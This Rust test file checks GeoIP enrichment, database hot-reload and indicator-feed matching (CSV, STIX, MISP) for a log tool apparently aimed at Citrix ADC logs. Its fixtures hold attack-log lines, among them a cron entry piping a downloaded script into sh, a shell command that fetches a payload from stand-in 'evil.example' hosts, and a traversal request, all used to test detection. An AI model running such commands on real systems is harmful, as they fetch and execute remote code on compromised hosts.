//! Enrichment with real data: the GeoLite2 City and ASN databases fetched by `scripts/setup.sh`,
//! databases written with MaxMind's own writer for hot-reload tests, and indicator feeds in all three
//! formats.

#![allow(clippy::unwrap_used)] // a test, benchmark or example: failing loudly is the point

use std::path::{Path, PathBuf};
use std::process::Command;

use chrono::{DateTime, Utc};
use gatewatch::config::{FeedSettings, Settings};
use gatewatch::ecs::{event_doc, Origin};
use gatewatch::enrich::feeds::Format;
use gatewatch::enrich::Enricher;
use gatewatch::parse::{parse, Dataset, ParseContext};
use serde_json::{Map, Value};

fn geoip_dir() -> PathBuf {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join(".tools/geoip");
    assert!(dir.join("GeoLite2-City.mmdb").exists(), "{} missing: run scripts/setup.sh", dir.display());
    dir
}

fn now() -> DateTime<Utc> {
    "2020-01-20T00:00:00Z".parse().unwrap()
}

/// Parses `line` and returns its enriched document.
fn enriched(enricher: &Enricher, line: &str, hint: Option<Dataset>) -> Map<String, Value> {
    let event = parse(line.as_bytes(), now(), &ParseContext::default(), hint).unwrap();
    let mut doc = event_doc(&event, Origin::File { file: "test", line: 1 });
    enricher.enrich(&event, &mut doc, now());
    doc.to_json()
}

fn login_from(ip: &str) -> String {
    format!("<134> 01/10/2020:08:57:43 GMT vpx01 0-PPE-0 : default AAA LOGIN_FAILED 1 0 : User admin - Client_ip {ip} - Failure_reason \"bad password\"")
}

fn geo_settings(city: &Path, asn: &Path) -> Settings {
    let mut s = Settings::default();
    // An empty path leaves that database off.
    s.enrich.geoip.city_db = (!city.as_os_str().is_empty()).then(|| city.to_path_buf());
    s.enrich.geoip.asn_db = (!asn.as_os_str().is_empty()).then(|| asn.to_path_buf());
    s
}

#[test]
fn real_geolite2_city_and_asn_for_well_known_addresses() {
    let dir = geoip_dir();
    let (enricher, _) =
        Enricher::load(&geo_settings(&dir.join("GeoLite2-City.mmdb"), &dir.join("GeoLite2-ASN.mmdb")), true).unwrap();
    let doc = enriched(&enricher, &login_from("8.8.8.8"), None);
    assert_eq!(doc["source"]["geo"]["country_iso_code"], "US", "{doc:?}");
    assert_eq!(doc["source"]["as"]["number"], 15169);
    assert!(doc["source"]["as"]["organization"]["name"].as_str().unwrap().to_lowercase().contains("google"));
    assert!(doc["source"]["geo"]["location"]["lat"].is_number());
    // The client role is enriched too.
    assert_eq!(doc["client"]["as"]["number"], 15169);

    let doc = enriched(&enricher, &login_from("1.1.1.1"), None);
    assert_eq!(doc["source"]["as"]["number"], 13335);
    let doc = enriched(&enricher, &login_from("81.2.69.142"), None);
    assert_eq!(doc["source"]["geo"]["country_iso_code"], "GB");
    assert_eq!(doc["source"]["geo"]["continent_code"], "EU");

    // Private, loopback and documentation ranges are tagged, not looked up.
    let doc = enriched(&enricher, &login_from("10.20.30.40"), None);
    assert_eq!(doc["source"]["geo"], serde_json::json!({"name": "private"}));
    assert!(doc["source"].get("as").is_none());
    let doc = enriched(&enricher, &login_from("127.0.0.1"), None);
    assert_eq!(doc["source"]["geo"]["name"], "loopback");
}

#[test]
fn a_wrong_type_or_corrupt_database_is_rejected_by_name() {
    let dir = geoip_dir();
    // The ASN file given as the City database.
    let err =
        Enricher::load(&geo_settings(&dir.join("GeoLite2-ASN.mmdb"), Path::new("")), true).err().unwrap().to_string();
    assert!(err.contains("GeoLite2-ASN.mmdb") && err.contains("geoip-city"), "{err}");
    let tmp = tempfile::tempdir().unwrap();
    let junk = tmp.path().join("junk.mmdb");
    std::fs::write(&junk, b"not a database").unwrap();
    let err = Enricher::load(&geo_settings(&junk, Path::new("")), true).err().unwrap().to_string();
    assert!(err.contains("junk.mmdb"), "{err}");
}

fn write_city(out: &Path, iso: &str, country: &str, city: &str) {
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/mmdb/write-city.pl");
    let status = Command::new("perl").arg(script).arg(out).args([iso, country, city, "8.8.8.0/24"]).status().unwrap();
    assert!(status.success(), "writing {} (needs libmaxmind-db-writer-perl)", out.display());
}

/// Replaces `target` by rename, as geoipupdate does.
fn replace(target: &Path, with: &Path) {
    let staged = target.with_extension("new");
    std::fs::copy(with, &staged).unwrap();
    std::fs::rename(&staged, target).unwrap();
}

#[test]
fn replacing_a_database_changes_results_without_a_restart_and_a_broken_one_is_refused() {
    let tmp = tempfile::tempdir().unwrap();
    let live = tmp.path().join("City.mmdb");
    write_city(&live, "AA", "Alphaland", "Alpha");
    let (enricher, _) = Enricher::load(&geo_settings(&live, Path::new("")), true).unwrap();
    assert_eq!(enriched(&enricher, &login_from("8.8.8.8"), None)["source"]["geo"]["city_name"], "Alpha");

    let next = tmp.path().join("next.mmdb");
    write_city(&next, "BB", "Betaland", "Beta");
    replace(&live, &next);
    let events = enricher.reload();
    assert!(events.iter().any(|e| e.component == "geoip-city" && e.outcome.is_ok()), "{events:?}");
    let doc = enriched(&enricher, &login_from("8.8.8.8"), None);
    assert_eq!(doc["source"]["geo"]["city_name"], "Beta");
    assert_eq!(doc["source"]["geo"]["country_iso_code"], "BB");

    // A corrupt file and a file of the wrong type are refused; Beta stays in use.
    let junk = tmp.path().join("junk");
    std::fs::write(&junk, vec![0u8; 4096]).unwrap();
    replace(&live, &junk);
    let events = enricher.reload();
    assert!(
        events.iter().any(
            |e| e.component == "geoip-city" && e.outcome.as_ref().is_err_and(|m| m.to_string().contains("keeping"))
        ),
        "{events:?}"
    );
    replace(&live, &geoip_dir().join("GeoLite2-ASN.mmdb"));
    let events = enricher.reload();
    assert!(
        events.iter().any(|e| e.outcome.as_ref().is_err_and(|m| m.to_string().contains("GeoLite2-ASN"))),
        "{events:?}"
    );
    assert_eq!(enriched(&enricher, &login_from("8.8.8.8"), None)["source"]["geo"]["city_name"], "Beta");
    // Nothing changed since: nothing reloaded.
    assert!(enricher.reload().is_empty());
}

fn feed(name: &str, path: &Path, format: Format) -> FeedSettings {
    FeedSettings { name: name.into(), path: path.to_path_buf(), format }
}

const CSV: &str = "type,value,source,confidence,first_seen,last_seen,expires,tags\n\
ipv4,95.179.163.186,CERT-A,high,2020-01-10,,,cve-2019-19781\n\
cidr,185.178.45.0/24,CERT-A,medium,,,,\n\
ipv6,2001:db8:bad::1,CERT-A,,,,,\n\
domain,evil.example,CERT-A,,,,,\n\
url,http://62.113.112.33/ci.sh,CERT-A,,,,,\n\
url_pattern,^/vpns?/\\.\\./vpns/,CERT-A,,,,,\n\
user_agent,python-requests,CERT-A,,,,,\n\
user_agent_pattern,^curl/7\\.6,CERT-A,,,,,\n\
md5,64d4c2d3ee56af4f4ca8171556d50faa,CERT-A,,,,,\n\
sha1,da39a3ee5e6b4b0d3255bfef95601890afd80709,CERT-A,,,,,\n\
sha256,e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855,CERT-A,,,,,\n\
file_path,/tmp/.init/httpd,CERT-A,,,,,\n\
file_name,netscalerd,CERT-A,,,,,\n\
ipv4,45.76.99.1,CERT-A,,,,2020-01-01,expired\n";

const STIX: &str = r#"{"type":"bundle","id":"bundle--1","objects":[
 {"type":"indicator","id":"indicator--1","spec_version":"2.1","pattern_type":"stix","pattern":"[ipv4-addr:value = '95.179.163.186']","valid_from":"2020-01-12T00:00:00Z","confidence":90},
 {"type":"indicator","id":"indicator--2","spec_version":"2.1","pattern_type":"stix","pattern":"[ipv4-addr:value = '1.2.3.4'] AND [domain-name:value = 'x.example']"}]}"#;

const MISP: &str = r#"{"Event":{"info":"NOTROBIN","Orgc":{"name":"MISP-C"},"Attribute":[{"type":"ip-dst","value":"185.178.45.221"},{"type":"hostname","value":"evil2.example"}]}}"#;

fn ioc_settings(dir: &Path) -> Settings {
    std::fs::write(dir.join("a.csv"), CSV).unwrap();
    std::fs::write(dir.join("b.json"), STIX).unwrap();
    std::fs::write(dir.join("c.json"), MISP).unwrap();
    let mut s = Settings::default();
    s.enrich.ioc.feeds = vec![
        feed("csv-feed", &dir.join("a.csv"), Format::Csv),
        feed("stix-feed", &dir.join("b.json"), Format::Stix),
        feed("misp-feed", &dir.join("c.json"), Format::Misp),
    ];
    s
}

fn matched(doc: &Map<String, Value>) -> Vec<(String, String, String)> {
    doc.get("threat")
        .and_then(|t| t["enrichments"].as_array())
        .map(|hits| {
            hits.iter()
                .map(|h| {
                    (
                        h["feed"]["name"].as_str().unwrap().to_owned(),
                        h["gatewatch"]["indicator_kind"].as_str().unwrap().to_owned(),
                        h["matched"]["field"].as_str().unwrap().to_owned(),
                    )
                })
                .collect()
        })
        .unwrap_or_default()
}

#[test]
fn every_indicator_type_from_all_three_formats_matches_and_duplicates_name_both_providers() {
    let tmp = tempfile::tempdir().unwrap();
    let (enricher, events) = Enricher::load(&ioc_settings(tmp.path()), false).unwrap();
    assert!(events.iter().all(|e| e.outcome.is_ok()), "{events:?}");

    // The same IP in the CSV and STIX feeds: both reported, with their providers.
    let doc = enriched(&enricher, &login_from("95.179.163.186"), None);
    let hits = doc["threat"]["enrichments"].as_array().unwrap();
    let source_hits: Vec<&Value> = hits.iter().filter(|h| h["matched"]["field"] == "source.ip").collect();
    let providers: Vec<&str> = source_hits.iter().map(|h| h["indicator"]["provider"].as_str().unwrap()).collect();
    assert_eq!(providers, ["CERT-A", "stix-feed"], "{hits:?}");
    assert_eq!(source_hits[0]["indicator"]["ip"], "95.179.163.186");
    assert_eq!(source_hits[0]["indicator"]["confidence"], "high");
    assert_eq!(source_hits[0]["matched"]["atomic"], "95.179.163.186");
    assert_eq!(source_hits[1]["indicator"]["confidence"], "90");

    // CIDR longest prefix: the MISP /32 wins over the CSV /24.
    let doc = enriched(&enricher, &login_from("185.178.45.221"), None);
    assert!(matched(&doc).contains(&("misp-feed".into(), "ipv4".into(), "source.ip".into())), "{:?}", matched(&doc));
    let doc = enriched(&enricher, &login_from("185.178.45.7"), None);
    assert!(matched(&doc).contains(&("csv-feed".into(), "cidr".into(), "source.ip".into())));
    let doc = enriched(&enricher, &login_from("2001:db8:bad::1"), None);
    assert!(matched(&doc).iter().any(|m| m.1 == "ipv6"));
    // Expired indicators do not match.
    assert!(matched(&enriched(&enricher, &login_from("45.76.99.1"), None)).is_empty());

    // httpaccess: URL path pattern (raw traversal) and user agents.
    let access = r#"127.0.0.2 - - [13/Jan/2020:08:16:30 +0000] "POST /vpn/../vpns/portal/scripts/newbm.pl HTTP/1.1" 200 135 "-" "curl/7.67.0""#;
    let kinds: Vec<String> = matched(&enriched(&enricher, access, None)).into_iter().map(|m| m.1).collect();
    assert!(
        kinds.contains(&"url_pattern".to_string()) && kinds.contains(&"user_agent_pattern".to_string()),
        "{kinds:?}"
    );
    let access = r#"127.0.0.1 - - [18/Jan/2020:00:15:29 +0000] "GET /vpn/../vpns/portal/1.xml HTTP/1.1" 200 71875 "-" "python-requests/2.18.4""#;
    assert!(matched(&enriched(&enricher, access, None)).iter().any(|m| m.1 == "user_agent"));

    // cron and shell: URLs, addresses, domains and paths inside the command line.
    let cron = "Jan 19 23:01:05 <cron.info> ns /usr/sbin/cron[14606]: (nobody) CMD (curl http://62.113.112.33/ci.sh | sh > /dev/null 2>&1)";
    let kinds: Vec<String> = matched(&enriched(&enricher, cron, None)).into_iter().map(|m| m.1).collect();
    assert!(kinds.contains(&"url".to_string()), "{kinds:?}");
    let shell = "Jan 19 24:26:52 <local7.notice> ns bash[1297]: root on /dev/pts/0 shell_command=\"pkill -9 netscalerd; curl -k https://sub.evil.example/x -o /tmp/.init/httpd; wget http://evil2.example/a\"";
    let got = matched(&enriched(&enricher, shell, None));
    for (feed, kind) in [("csv-feed", "domain"), ("csv-feed", "file_path"), ("misp-feed", "domain")] {
        assert!(got.iter().any(|m| m.0 == feed && m.1 == kind), "{feed} {kind}: {got:?}");
    }
    // file names and hashes on process/file fields.
    let shell =
        "Jan 19 24:26:52 <local7.notice> ns bash[1297]: root on /dev/pts/0 shell_command=\"/var/tmp/netscalerd -d\"";
    assert!(matched(&enriched(&enricher, shell, None)).iter().any(|m| m.1 == "file_name"));
    // A clean event carries no threat fields.
    assert!(enriched(&enricher, &login_from("8.8.8.8"), None).get("threat").is_none());

    // An SSLVPN record's `Context user@address` is matched too when it is not the body's `Client_ip`
    // (which the GeoIP roles match), and not twice when it is.
    let vpn = |context: &str, client: &str| {
        format!("<134> 01/08/2020:01:21:00 GMT vpx01 0-PPE-1 : default SSLVPN UDPFLOWSTAT 1 0 : Context u@{context} - SessionId: 1 - User u - Client_ip {client} - Nat_ip 10.0.0.1 - Vserver 10.0.0.2:443")
    };
    let got = matched(&enriched(&enricher, &vpn("95.179.163.186", "8.8.8.8"), None));
    assert_eq!(got.iter().filter(|m| m.2 == "citrix_adc.log.context.client.ip").count(), 2, "CSV and STIX: {got:?}");
    let got = matched(&enriched(&enricher, &vpn("95.179.163.186", "95.179.163.186"), None));
    assert!(got.iter().all(|m| m.2 != "citrix_adc.log.context.client.ip") && !got.is_empty(), "{got:?}");
}

#[test]
fn hashes_match_on_file_hash_fields() {
    use gatewatch::enrich::ioc::{FeedIndicators, Indicator, IocIndex, Kind};
    let hashes =
        [(Kind::Md5, "64d4c2d3ee56af4f4ca8171556d50faa"), (Kind::Sha1, "da39a3ee5e6b4b0d3255bfef95601890afd80709")];
    let indicators: Vec<Indicator> =
        hashes.iter().map(|(kind, value)| Indicator::new(*kind, value, Default::default())).collect();
    let feed = std::sync::Arc::new(FeedIndicators { name: "f".into(), indicators });
    let (index, errors) = IocIndex::build(vec![feed]);
    assert!(errors.is_empty());
    let mut hits = Vec::new();
    index.match_hash("64D4C2D3EE56AF4F4CA8171556D50FAA", "file.hash.md5", now(), &mut hits);
    index.match_hash("da39a3ee5e6b4b0d3255bfef95601890afd80709", "file.hash.sha1", now(), &mut hits);
    assert_eq!(hits.len(), 2);
}

#[test]
fn a_broken_feed_keeps_the_previous_version_and_says_why() {
    let tmp = tempfile::tempdir().unwrap();
    let settings = ioc_settings(tmp.path());
    let (enricher, _) = Enricher::load(&settings, false).unwrap();
    let before = enricher.indicator_count();
    assert!(!matched(&enriched(&enricher, &login_from("95.179.163.186"), None)).is_empty());

    // Replace the CSV feed with garbage: the reload reports it, the old indicators stay.
    std::fs::write(tmp.path().join("a.csv.new"), "this is not,a feed\n\"unterminated").unwrap();
    std::fs::rename(tmp.path().join("a.csv.new"), tmp.path().join("a.csv")).unwrap();
    let events = enricher.reload();
    let csv_event = events.iter().find(|e| e.component == "feed:csv-feed").unwrap();
    let error = csv_event.outcome.as_ref().unwrap_err().to_string();
    assert!(error.contains("a.csv") && error.contains("keeping the previous"), "{error}");
    assert_eq!(enricher.indicator_count(), before);
    assert!(!matched(&enriched(&enricher, &login_from("95.179.163.186"), None)).is_empty());

    // `gatewatch check` (strict loading) names the broken feed.
    let err = Enricher::load(&settings, true).err().unwrap().to_string();
    assert!(err.contains("csv-feed") && err.contains("a.csv"), "{err}");

    // A fixed feed is picked up: a new indicator matches, the removed ones stop matching.
    std::fs::write(tmp.path().join("a.csv.new"), "type,value\nipv4,203.0.113.200\n").unwrap();
    std::fs::rename(tmp.path().join("a.csv.new"), tmp.path().join("a.csv")).unwrap();
    let events = enricher.reload();
    assert!(events.iter().any(|e| e.component == "feed:csv-feed" && e.outcome.is_ok()), "{events:?}");
    let doc = enriched(&enricher, &login_from("185.178.45.7"), None);
    assert!(matched(&doc).is_empty(), "{:?}", matched(&doc));
    // 203.0.113.0/24 is a documentation range: tagged reserved, and still matched as an indicator.
    let doc = enriched(&enricher, &login_from("203.0.113.200"), None);
    let fields: Vec<String> = matched(&doc).into_iter().map(|m| format!("{}/{}/{}", m.0, m.1, m.2)).collect();
    assert_eq!(fields, ["csv-feed/ipv4/source.ip", "csv-feed/ipv4/client.ip"]);
    assert_eq!(doc["source"]["geo"]["name"], "reserved");
}

#[test]
fn an_oversized_regex_feed_and_a_gzip_bomb_are_refused_by_name_and_the_previous_feed_kept() {
    use std::io::Write;
    let tmp = tempfile::tempdir().unwrap();
    let mut settings = ioc_settings(tmp.path());
    settings.enrich.ioc.max_feed_bytes = bytesize::ByteSize::mib(1);
    let gz = tmp.path().join("d.csv.gz");
    let mut e = flate2::write::GzEncoder::new(std::fs::File::create(&gz).unwrap(), flate2::Compression::default());
    e.write_all(b"type,value\nipv4,198.51.100.61\n").unwrap();
    e.finish().unwrap();
    settings.enrich.ioc.feeds.push(feed("gz-feed", &gz, Format::Csv));
    let (enricher, events) = Enricher::load(&settings, false).unwrap();
    assert!(events.iter().all(|e| e.outcome.is_ok()), "{events:?}");
    let before = enricher.indicator_count();
    assert!(!matched(&enriched(&enricher, &login_from("198.51.100.61"), None)).is_empty(), "a .gz feed is read");

    // Each pattern compiles on its own, together they exceed the regex size limit: refused by name, the
    // previous version kept — no panic, at start-up or on reload.
    let mut csv = String::from("type,value\nipv4,95.179.163.186\n");
    for i in 0..60 {
        csv.push_str(&format!("url_pattern,/x{i}/\\w{{20}}\n"));
    }
    std::fs::write(tmp.path().join("a.csv.new"), &csv).unwrap();
    std::fs::rename(tmp.path().join("a.csv.new"), tmp.path().join("a.csv")).unwrap();
    let events = enricher.reload();
    let error =
        events.iter().find(|e| e.component == "feed:csv-feed").unwrap().outcome.as_ref().unwrap_err().to_string();
    assert!(
        error.contains("csv-feed") && error.contains("regex size limit") && error.contains("keeping the previous"),
        "{error}"
    );
    assert_eq!(enricher.indicator_count(), before);
    let err = Enricher::load(&settings, true).err().unwrap().to_string();
    assert!(err.contains("csv-feed") && err.contains("regex size limit"), "{err}");

    // A gzip bomb: a few KiB that inflate past enrich.ioc.max_feed_bytes.
    let mut e = flate2::write::GzEncoder::new(std::fs::File::create(&gz).unwrap(), flate2::Compression::best());
    e.write_all(b"type,value\n").unwrap();
    for _ in 0..64 {
        e.write_all(&[b'#'; 64 * 1024]).unwrap();
    }
    e.finish().unwrap();
    assert!(std::fs::metadata(&gz).unwrap().len() < 64 * 1024);
    let events = enricher.reload();
    let error =
        events.iter().find(|e| e.component == "feed:gz-feed").unwrap().outcome.as_ref().unwrap_err().to_string();
    assert!(
        error.contains("gz-feed") && error.contains("decompresses to more than enrich.ioc.max_feed_bytes"),
        "{error}"
    );
    assert_eq!(enricher.indicator_count(), before);
    assert!(!matched(&enriched(&enricher, &login_from("198.51.100.61"), None)).is_empty(), "the previous version");

    // A plain feed over the bound is refused the same way.
    std::fs::write(tmp.path().join("c.json"), vec![b' '; 2 << 20]).unwrap();
    let events = enricher.reload();
    let error =
        events.iter().find(|e| e.component == "feed:misp-feed").unwrap().outcome.as_ref().unwrap_err().to_string();
    assert!(error.contains("is larger than enrich.ioc.max_feed_bytes"), "{error}");
}
